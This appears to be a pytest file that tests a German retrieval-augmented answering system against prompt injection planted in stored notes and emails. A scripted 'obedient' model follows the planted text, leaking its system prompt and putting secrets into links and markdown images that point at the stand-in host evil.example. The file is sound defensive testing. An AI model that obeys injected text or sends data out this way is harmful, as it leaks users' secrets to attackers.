"""Every attack string, planted in a document, before a model that obeys: nothing leads out, no more is retrieved."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from rag.access import LOOPBACK
from rag.answers import Answer, Done, Found
from rag.ask.addresses import addresses_of, is_active
from rag.identity import person
from rag.ports import Delta, Generation, Message
from tests.injection.conftest import LEAVE, SAMPLE, SECRET, entries, sample
from tests.standins import ScriptedModel, Shelf, says

ANNA = person("anna", {})
QUESTION = "Wie viele Arbeitstage beträgt der Urlaub im Kalenderjahr?"
TRUE = "Der Urlaub beträgt im Kalenderjahr 30 Arbeitstage."
EVIL = "https://evil.example/c?d="
SIZES = (SAMPLE, pytest.param(None, marks=[pytest.mark.soak, pytest.mark.timeout(1800)], id="all"))
"""How many of them: a sample in the ordinary run, all in `make soak`."""


class Obedient(ScriptedModel):
    """Does what the planted text says: repeats it, sends what it knows to its addresses, shows a picture, tells its
    instructions; among it one true sentence."""

    def __init__(self, attack: str) -> None:
        super().__init__()
        self._attack = attack

    def stream(self, messages: Sequence[Message], generation: Generation) -> Iterator[Delta]:
        secret = messages[0].content[:60].replace(" ", "+")
        own = addresses_of(self._attack)
        said = [
            TRUE,
            self._attack[:400],
            f"Mehr dazu: {EVIL}{secret}",
            f"![Urlaub]({EVIL}{secret})",
            f"{TRUE} ![x][1] [1]: {EVIL}",
            *(f"{TRUE} {address}?d={secret}" for address in own[:2]),
            messages[0].content[:200],
        ]
        self._pieces = (says(*said),)
        yield from super().stream(messages, generation)


def asked(shelf: Shelf, model: ScriptedModel) -> tuple[Answer, Found]:
    events = list(shelf.answerer(model, evidence=0.0).ask(QUESTION, principal=ANNA, channel=LOOPBACK))
    found, done = events[0], events[-1]
    assert isinstance(found, Found) and isinstance(done, Done)
    return done.answer, found


def foreign(answer: Answer) -> list[str]:
    """The addresses of an answer that stand in no passage it cites, or that a program might follow by itself."""
    keys = {citation.key for citation in answer.citations}
    there = {address for one in answer.passages if one.key in keys for address in addresses_of(one.chunk.text)}
    text = re.sub(r"\[\d+\](?![(:])", "", answer.text)  # our own markers
    return [address for address in addresses_of(text) if address not in there or is_active(address)]


def outline(messages: Sequence[Message]) -> tuple[Any, ...]:
    return tuple((message.role, message.content) for message in messages[:-1])


@pytest.mark.parametrize("count", SIZES)
def test_no_attack_brings_a_foreign_address_into_an_answer_or_widens_what_is_retrieved(
    house: Shelf, count: int | None
) -> None:
    assert len(entries("attacks")) == 365
    attacks = sample("attacks", count)
    house.put("notiz.txt", f"{LEAVE} Gez. die Leitung.")
    plain = ScriptedModel(says(TRUE))
    _, before = asked(house, plain)
    leads, widened = [], []
    for attack in attacks:
        house.put("notiz.txt", f"{LEAVE}\n\n{attack['text']}")
        model = Obedient(attack["text"])
        answer, found = asked(house, model)
        if foreign(answer) or EVIL in answer.text:
            leads.append((attack["id"], foreign(answer), answer.text))
        names = {one.chunk.document_id for one in found.passages}
        if not names <= {one.chunk.document_id for one in before.passages} or SECRET in model.prompt + repr(found):
            widened.append(attack["id"])
        assert outline(model.prompts[0]) == outline(plain.prompts[0])
        assert model.generations[0].schema == plain.generations[0].schema
        turn = model.prompts[0][-1].content
        assert turn.count("<passages>") == turn.count("</passages>") == 1
        assert any(citation.quote == TRUE for citation in answer.citations), attack["id"]
    assert not leads, leads[:3]
    assert not widened


@pytest.mark.parametrize("count", SIZES)
def test_no_mail_that_carries_an_attack_does_either(house: Shelf, count: int | None) -> None:
    assert len(entries("carriers_email")) == 50
    mails, attacks = sample("carriers_email", count and count // 4), entries("attacks")
    for number, carrier in enumerate(mails):
        attack = attacks[number * 7 % len(attacks)]["text"]
        house.put("mail.txt", f"{carrier['context'][:1500]}\n\n{attack}\n\n{LEAVE}")
        answer, found = asked(house, Obedient(attack))
        assert not foreign(answer), carrier
        assert SECRET not in repr(found)
    house.put("mail.txt", "Leer.")


@pytest.mark.parametrize("count", SIZES)
def test_every_harmless_text_is_answered_as_a_question(house: Shelf, count: int | None) -> None:
    assert len(entries("benign_controls")) == 343
    for control in sample("benign_controls", count):
        model = ScriptedModel(says(TRUE))
        answerer = house.answerer(model, evidence=0.0)
        *_, done = answerer.ask(control["text"], principal=ANNA, channel=LOOPBACK)
        assert isinstance(done, Done)
        assert done.answer.outcome in ("answered", "unsupported")
        shown = model.prompts[0][-1].content
        assert control["text"].split()[0] in shown


@pytest.mark.parametrize("count", SIZES)
def test_every_harmless_text_stays_searchable_and_citable_as_a_document(own_house: Shelf, count: int | None) -> None:
    controls = sample("benign_controls", count)
    for number, control in enumerate(controls):
        own_house.put(f"text-{number}.txt", control["text"])
    lost = []
    for number, control in enumerate(controls):
        text = " ".join(control["text"].split())
        model = ScriptedModel(says(text))
        *_, done = own_house.answerer(model, evidence=0.0).ask(text, principal=ANNA, channel=LOOPBACK)
        assert isinstance(done, Done)
        cited = " ".join(citation.quote for citation in done.answer.citations)
        if not any(" ".join(one.chunk.text.split()) == text for one in done.answer.passages) or not cited:
            lost.append((number, text))
    assert not lost, (len(lost), lost[:5])


@pytest.fixture
def own_house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shelf]:
    with Shelf(tmp_path_factory.mktemp("own")) as shelf:
        yield shelf
